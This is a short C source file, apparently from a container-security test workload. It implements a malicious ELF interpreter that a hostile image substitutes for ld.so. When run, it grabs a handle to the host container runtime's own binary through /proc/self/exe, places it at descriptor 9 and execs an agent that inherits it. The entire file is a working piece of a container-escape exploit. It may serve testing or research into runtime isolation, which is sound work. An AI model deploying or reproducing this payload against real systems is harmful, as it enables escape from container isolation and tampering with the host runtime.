/* interpreter: what a malicious image puts in the place of ld.so. The kernel starts it inside the container when a dynamic
 * exe is executed there; /proc/self/exe is then the runtime's own binary. Opens it and becomes the agent with that handle.
 * Not an ordinary program: its stack and auxiliary vector are those of the exe. */
#include <fcntl.h>

#include "workloads/payloads/start.h"

void _start(void) {
  static const char self[] = "/proc/self/exe";
  static const char agent[] = "/probe";
  /* Built at run time: a table of pointers would need relocations, and nobody relocates an interpreter. */
  const char* argv[3];
  const char* env[1];
  argv[0] = agent;
  argv[1] = "serve";
  argv[2] = 0;
  env[0] = 0;
  /* Not close-on-exec: the agent finds the handle as descriptor 9. */
  long fd = system_call4(__NR_openat, AT_FDCWD, (long)self, O_PATH, 0);
  if (fd >= 0 && fd != 9) system_call4(__NR_dup3, fd, 9, 0, 0);
  system_call4(__NR_execve, (long)agent, (long)argv, (long)env, 0);
  for (;;) system_call4(__NR_exit_group, 125, 0, 0, 0);
}
